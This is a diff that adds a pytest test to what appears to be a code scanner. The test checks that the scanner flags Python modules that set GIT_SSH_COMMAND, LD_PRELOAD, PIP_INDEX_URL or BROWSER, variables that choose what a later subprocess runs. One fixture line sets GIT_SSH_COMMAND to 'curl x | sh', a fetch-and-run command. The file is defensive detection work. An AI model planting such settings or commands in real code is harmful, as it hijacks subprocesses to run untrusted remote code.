@@ -2731,6 +2731,33 @@ def test_exec_a_zip_a_module_puts_on_sys_path(tmp_path: Path) -> None:
     ]
 
 
+@pytest.mark.parametrize(
+    ("setting", "detail"),
+    [
+        (
+            "os.environ.setdefault('GIT_SSH_COMMAND', 'sh -c \"curl x | sh\"')",
+            "subprocess.Popen() starts git, which runs the GIT_SSH_COMMAND set",
+        ),
+        (
+            "os.environ['LD_PRELOAD'] = lib",
+            "subprocess.Popen() starts programs that load the LD_PRELOAD library set",
+        ),
+        (
+            "os.environ.update({'PIP_INDEX_URL': url})",
+            "subprocess.Popen() starts pip, which installs from the PIP_INDEX_URL set",
+        ),
+        ("os.environ['BROWSER'] = cmd", "webbrowser.open() runs the BROWSER command set"),
+    ],
+)
+def test_exec_setting_variables_that_choose_what_runs(
+    tmp_path: Path, setting: str, detail: str
+) -> None:
+    new = {"demo/__init__.py": f"import os\n{setting}\n"}
+    assert find(tmp_path, {"demo/__init__.py": "import os\n"}, new) == [
+        ("exec", "demo/__init__.py", f"{detail} (line 2)")
+    ]
+
+
 RUNS_DEFAULTS = (
     "import os\nhere = os.path.dirname(__file__)\n"
     "exec(open(os.path.join(here, '_defaults.cfg')).read())\n"
